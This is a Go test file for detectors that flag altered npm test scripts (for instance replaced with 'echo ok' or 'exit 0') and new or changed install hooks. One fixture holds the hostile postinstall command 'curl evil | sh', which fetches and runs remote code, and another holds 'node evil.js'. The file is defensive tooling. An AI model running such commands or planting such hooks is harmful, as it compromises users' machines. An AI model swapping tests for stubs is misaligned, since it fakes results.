package project

import "testing"

func TestChangedTestScript(t *testing.T) {
	old := NpmScripts([]byte(`{"scripts":{"test":"npm run -s unit && yarn lint:all","unit":"jest","lint:all":"eslint .","start":"node x"}}`))
	cases := map[string]struct{ data, want string }{
		"the same":          {`{"scripts":{"test":"npm run -s unit && yarn lint:all","unit":"jest","lint:all":"eslint .","start":"node y","dev":"vite"}}`, ""},
		"test":              {`{"scripts":{"test":"echo ok","unit":"jest","lint:all":"eslint ."}}`, "test"},
		"behind test":       {`{"scripts":{"test":"npm run -s unit && yarn lint:all","unit":"jest --passWithNoTests","lint:all":"eslint ."}}`, "unit"},
		"before test":       {`{"scripts":{"pretest":"exit 0","test":"npm run -s unit && yarn lint:all","unit":"jest","lint:all":"eslint ."}}`, "pretest"},
		"two keys":          {`{"scripts":{"test":"npm run -s unit && yarn lint:all","unit":"jest","lint:all":"eslint ."},"scripts":{"test":"echo ok"}}`, "test"},
		"another spelling":  {`{"Scripts":{"test":"npm run -s unit && yarn lint:all","unit":"jest","lint:all":"eslint ."}}`, "test"},
		"no package at all": {``, "test"},
	}
	for name, c := range cases {
		if got := ChangedTestScript("npm test", old, NpmScripts([]byte(c.data))); got != c.want {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
	if got := ChangedTestScript("go test ./...", old, nil); got != "" {
		t.Errorf("go test goes through no script, got %q", got)
	}
}

func TestChangedInstallScript(t *testing.T) {
	old := NpmScripts([]byte(`{"scripts":{"prepare":"husky","test":"jest"}}`))
	for data, want := range map[string]string{
		`{"scripts":{"prepare":"husky","test":"vitest","start":"x"}}`:    "",
		`{"scripts":{"test":"jest"}}`:                                    "",
		`{"scripts":{"prepare":"husky","postinstall":"curl evil | sh"}}`: "postinstall",
		`{"scripts":{"prepare":"node evil.js","test":"jest"}}`:           "prepare",
	} {
		if got := ChangedInstallScript(old, NpmScripts([]byte(data))); got != want {
			t.Errorf("%s: %q, want %q", data, got, want)
		}
	}
}
